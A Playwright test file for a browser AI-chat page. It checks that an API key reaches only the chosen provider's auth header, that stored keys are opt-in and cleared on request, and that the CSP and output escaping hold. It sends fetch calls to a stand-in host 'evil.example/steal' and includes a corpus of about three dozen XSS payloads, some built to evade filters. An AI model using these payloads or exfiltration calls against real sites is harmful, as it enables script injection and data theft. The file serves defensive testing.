"""The key and the page's defences, in headless Chromium with every request and message recorded.

- The key goes only to the chosen provider's base URL, only in its auth header,
  across a session with a good turn and many failures (an error body that
  echoes the key, retries, a cut stream, a timeout, HTML, CORS, a refused
  connection), and never shows in a URL, the trace, the DOM or the console.
- Without "remember" nothing survives a reload; "Forget key" clears every store.
- The CSP is enforced in the page and in the worker (whose policy comes from the
  HTTP header): injected inline script and handlers do not run, scripts,
  images and fetches to a third-party origin are blocked before any network,
  and so is the agent itself when its base URL points there.
- A corpus of XSS payloads in the question, in the model's text and in a tool
  result (a team name the tool echoes in its error) runs nothing.
Run under `flock /tmp/browser.lock`.
"""

from __future__ import annotations

import json
import socket

import pytest
from fake_provider import FakeProvider, error, reply
from page_helpers import BOOT_TIMEOUT, ask, last_answer, open_page, show, trace, use_model
from playwright.sync_api import expect

pytestmark = pytest.mark.browser

KEY = "sk-proj-LEAKCHECK-4f9d2b7e61"
EVIL = "https://evil.example"
STORES = """async () => {
  const dbs = indexedDB.databases ? (await indexedDB.databases()).map((d) => d.name) : [];
  const caches_ = [];
  for (const name of await caches.keys()) {
    for (const request of await (await caches.open(name)).keys()) caches_.push(request.url);
  }
  const files = []; // the private file system's names (the saved interpreter, made before any question)
  const walk = async (directory, path) => {
    for await (const [name, handle] of directory.entries()) {
      files.push(path + name);
      if (handle.kind === "directory") await walk(handle, `${path}${name}/`);
    }
  };
  await walk(await navigator.storage.getDirectory(), "");
  return JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage), document.cookie, dbs, caches_,
                         files]);
}"""


@pytest.fixture
def fake():
    server = FakeProvider()
    yield server
    server.close()


def closed_port_url() -> str:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    return f"http://127.0.0.1:{port}/v1"


def _auth_only(request: dict) -> bool:
    """The key is in the auth header and nowhere else in the request."""
    headers = {k.lower(): v for k, v in request["headers"].items()}
    in_auth = headers.get("authorization") == f"Bearer {KEY}" or headers.get("x-api-key") == KEY
    elsewhere = [k for k, v in headers.items() if KEY in v and k not in ("authorization", "x-api-key")]
    return in_auth and not elsewhere and KEY not in request["url"] and KEY not in request["post"]


def test_the_key_goes_only_to_the_chosen_provider(returning, site_url, fake):
    context, page, rec = open_page(returning.new_context, site_url, request_timeout=3, retry_backoff=0.05)
    no_cors = FakeProvider(cors=False)
    chosen: list[str] = []
    try:
        def choose(provider: str, base: str) -> None:
            use_model(page, provider, base, KEY)
            chosen.append(base.rstrip("/") + "/")

        choose("openai", fake.base_url("openai"))
        fake.script(reply("", [("season", {"season": 2016})]), reply("The Cubs won the 2016 World Series."),
                    error(401, message=f"Incorrect API key provided: {KEY}."),
                    error(500), error(500), error(500),
                    {**reply("The Cubs beat Cleveland in seven games.", chunks=6), "fault": "cut", "after": 3},
                    {"fault": "hang"}, {"fault": "not_json"})
        questions = ["Who won in 2016?", "Again?", "And again?", "Once more?", "Still there?", "Hello?"]
        for n, question in enumerate(questions, 1):
            ask(page, question)
            last_answer(page, n)
        choose("openai", no_cors.base_url("openai"))
        ask(page, "Through a provider without CORS?")
        last_answer(page, 7)
        choose("openai", closed_port_url())
        ask(page, "Nobody listening?")
        last_answer(page, 8)
        choose("anthropic", fake.base_url("anthropic"))
        fake.script(reply("Anthropic says hi."))
        ask(page, "And Anthropic?")
        expect(last_answer(page, 9).locator(".text")).to_have_text("Anthropic says hi.")
        log = page.get_by_role("log", name="Conversation")
        expect(log.locator(".turn.failed")).to_have_count(7)
        expect(log).to_contain_text("[key]")  # the echoed key was scrubbed from the message

        carried = [r for r in rec.requests if KEY in json.dumps(r)]
        assert len(carried) >= 10
        for r in carried:  # model calls, and the model list (GET {base}/models) the page asks for that key
            listing = r["method"] == "GET" and r["url"].rstrip("/").endswith("/models")
            assert (r["method"] == "POST" or listing) and any(r["url"].startswith(base) for base in chosen), r["url"]
            assert _auth_only(r), r
        for r in fake.requests:  # what actually arrived, seen from the server
            raw = json.dumps({k: v for k, v in r["headers"].items() if k not in ("authorization", "x-api-key")})
            assert KEY not in raw + r["path"] + (r.get("raw") or b"").decode()
        assert not [text for _, text in rec.console if KEY in text]
        assert KEY not in page.content()  # the DOM, trace included (the input's value is not an attribute)
        assert KEY not in page.evaluate("() => document.body.innerText")
        assert KEY not in page.evaluate(STORES)  # not remembered: stored nowhere
        rec.check()

        page.reload()
        expect(page.locator("html")).to_have_attribute("data-agent-state", "ready", timeout=BOOT_TIMEOUT)
        show(page, "Settings")
        expect(page.get_by_role("textbox", name="API key")).to_have_value("")
        expect(page.get_by_role("status")).to_have_text("Demo mode: no model")
        assert KEY not in page.evaluate(STORES)
    finally:
        no_cors.close()
        context.close()


def test_remember_is_opt_in_and_forget_clears_every_store(returning, site_url):
    context, page, rec = open_page(returning.new_context, site_url)
    # With a key, the page asks OpenAI which models it can use: answered here with no network, and checked.
    context.route("https://api.openai.com/**", lambda route: route.abort("internetdisconnected"))
    try:
        show(page, "Settings")
        key_box = page.get_by_role("textbox", name="API key")
        page.get_by_role("combobox", name="Provider").select_option("openai")
        key_box.fill(KEY)
        assert KEY not in page.evaluate(STORES)
        page.get_by_role("checkbox", name="Remember key on this device").check()
        assert KEY in page.evaluate(STORES)
        expect(page.locator("#key-note")).to_contain_text("saved in this browser's localStorage")

        page.reload()
        expect(page.locator("html")).to_have_attribute("data-agent-state", "ready", timeout=BOOT_TIMEOUT)
        show(page, "Settings")
        expect(key_box).to_have_value(KEY)
        expect(page.get_by_role("checkbox", name="Remember key on this device")).to_be_checked()

        page.get_by_role("button", name="Forget key").click()
        expect(key_box).to_have_value("")
        assert KEY not in page.evaluate(STORES)
        page.reload()
        expect(page.locator("html")).to_have_attribute("data-agent-state", "ready", timeout=BOOT_TIMEOUT)
        show(page, "Settings")
        expect(key_box).to_have_value("")
        expect(page.get_by_role("checkbox", name="Remember key on this device")).not_to_be_checked()
        assert KEY not in page.evaluate(STORES)
        listings = [r for r in rec.requests if r["url"].startswith("https://api.openai.com/")]
        assert listings and all(r["url"] == "https://api.openai.com/v1/models" and r["method"] == "GET"
                                and _auth_only(r) for r in listings)
        rec.requests = [r for r in rec.requests if r not in listings]
        rec.check()
    finally:
        context.close()


# ---------------------------------------------------------------- the CSP

VIOLATIONS = """() => { window.__violations = [];
  document.addEventListener('securitypolicyviolation',
    (e) => window.__violations.push([e.effectiveDirective, e.blockedURI])); }"""


def test_csp_blocks_injected_script_and_third_party_origins(returning, site_url):
    context, page, rec = open_page(returning.new_context, site_url)
    reached: list[str] = []
    context.route(f"{EVIL}/**", lambda route: (reached.append(route.request.url), route.abort()))
    try:
        page.evaluate(VIOLATIONS)
        page.evaluate("""() => {
          const s = document.createElement('script'); s.textContent = 'window.__inline = 1'; document.body.append(s);
          document.body.insertAdjacentHTML('beforeend',
            '<img id="probe" src="favicon.svg" onload="window.__handler = 1">' +
            '<a id="js-link" href="javascript:window.__jsurl = 1">x</a>');
          const remote = document.createElement('script'); remote.src = '%(evil)s/x.js'; document.body.append(remote);
          const img = document.createElement('img'); img.src = '%(evil)s/pixel.png'; document.body.append(img);
        }""" % {"evil": EVIL})
        page.locator("#js-link").click()
        fetched = page.evaluate(f"() => fetch('{EVIL}/steal', {{method: 'POST', body: 'k'}}).then(() => 'sent', (e) => 'blocked: ' + e)")
        assert fetched.startswith("blocked: TypeError")
        worker = page.workers[0]  # the worker's policy is the HTTP header's (a meta tag does not reach it)
        from_worker = worker.evaluate(f"() => fetch('{EVIL}/steal').then(() => 'sent', (e) => 'blocked: ' + e)")
        assert from_worker.startswith("blocked: TypeError")
        page.wait_for_timeout(300)
        flags = page.evaluate("() => [window.__inline, window.__handler, window.__jsurl]")
        assert flags == [None, None, None]
        directives = {d for d, _ in page.evaluate("() => window.__violations")}
        assert {"script-src-elem", "script-src-attr", "img-src", "connect-src"} <= directives, directives
        assert reached == []  # blocked before any network: the route never saw them

        # The agent itself cannot be pointed at a third-party origin: the page refuses before sending
        # (and the worker's own policy would block it, as the fetch above shows).
        use_model(page, "openai", f"{EVIL}/v1", KEY)
        ask(page, "Who won in 2016?")
        turn = last_answer(page, 1)
        expect(turn.locator(".text")).to_contain_text("so it will not send your question to evil.example.")
        assert reached == []
        # Chromium reports the blocked element loads as requests that failed, the reason being "csp".
        evil = [r["url"] for r in rec.requests if r["url"].startswith(EVIL)]
        assert evil and all(rec.failed.get(url) == "csp" for url in evil), (evil, rec.failed)
        rec.requests = [r for r in rec.requests if not r["url"].startswith(EVIL)]
        rec.check()
    finally:
        context.close()


# ---------------------------------------------------------------- XSS

def _payloads() -> list[str]:
    """Each sets window.__xss (or opens a dialog) if it ever runs."""
    run = "window.__xss=(window.__xss||0)+1"
    return [
        f"<script>{run}</script>",
        f"<img src=x onerror=\"{run}\">",
        f"<img src=x onerror={run}>",
        f"<svg onload=\"{run}\">",
        f"<svg><script>{run}</script></svg>",
        f"<body onload=\"{run}\">",
        "<iframe src=\"javascript:parent.__xss=1\"></iframe>",
        "<iframe srcdoc=\"<script>parent.__xss=1</script>\"></iframe>",
        f"<a href=\"javascript:{run}\">click</a>",
        f"<math><mtext><table><mglyph><style><img src=x onerror=\"{run}\">",
        f"\"><script>{run}</script>",
        f"'><img src=x onerror={run}>",
        f"</textarea><script>{run}</script>",
        f"</title><script>{run}</script>",
        f"<details open ontoggle=\"{run}\">",
        f"<video><source onerror=\"{run}\"></video>",
        f"<audio src=x onerror=\"{run}\">",
        f"<input autofocus onfocus=\"{run}\">",
        f"<marquee onstart=\"{run}\">",
        f"<object data=\"javascript:{run}\"></object>",
        f"<embed src=\"javascript:{run}\">",
        f"<form><button formaction=\"javascript:{run}\">x</button></form>",
        f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{run}\">",
        f"<link rel=stylesheet href=\"javascript:{run}\">",
        f"<div style=\"background:url(javascript:{run})\">",
        f"<scr<script>ipt>{run}</scr</script>ipt>",
        f"<IMG SRC=JaVaScRiPt:{run}>",
        f"<img src=`x` onerror=`{run}`>",
        "<img src=x onerror=&#119;indow.__xss=1>",
        "<script>alert('xss')</script>",
        "<img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        f"{{{{constructor.constructor('{run}')()}}}}",
        f"<template><script>{run}</script></template><noscript><p title=\"</noscript><img src=x onerror={run}>\">",
        f"<base href=\"javascript:{run}//\">",
        f"<style>@import 'javascript:{run}';</style>",
    ]


PAYLOADS = _payloads()
DANGEROUS = "script, img, svg, iframe, a, body, math, details, video, audio, input, marquee, object, embed, form, meta, " \
            "link, style, template, base, b, i"


def test_xss_payloads_in_question_model_text_and_tool_results_run_nothing(returning, site_url, fake):
    context, page, rec = open_page(returning.new_context, site_url)
    try:
        use_model(page, "openai", fake.base_url("openai"), KEY)
        for n, payload in enumerate(PAYLOADS, 1):
            fake.script(reply("", [("team_season", {"team": payload, "season": 1998})]), reply(payload))
            ask(page, payload)
            turn = last_answer(page, n)
            expect(turn.locator(".text")).to_have_text(payload)
        results = [r.removeprefix("Result: ") for r in trace(page).locator(".call-result").all_text_contents()]
        assert len(results) == len(PAYLOADS)
        assert all(r.startswith("error: unknown team") for r in results)
        assert sum(p[:30] in r for p, r in zip(PAYLOADS, results)) >= len(PAYLOADS) - 2  # echoed (shortened), as text
        questions = page.locator("#log .turn.visitor .text").all_text_contents()
        assert questions == [p.strip() for p in PAYLOADS]
        page.wait_for_timeout(500)
        assert page.evaluate("() => window.__xss") is None
        own = ":not(details.raw)"  # the trace's own "Raw JSON" switches
        assert page.locator(f"#log :is({DANGEROUS}){own}, #trace :is({DANGEROUS}){own}").count() == 0
        assert fake.problems == []
        rec.check()  # no dialog opened, no page error
    finally:
        context.close()
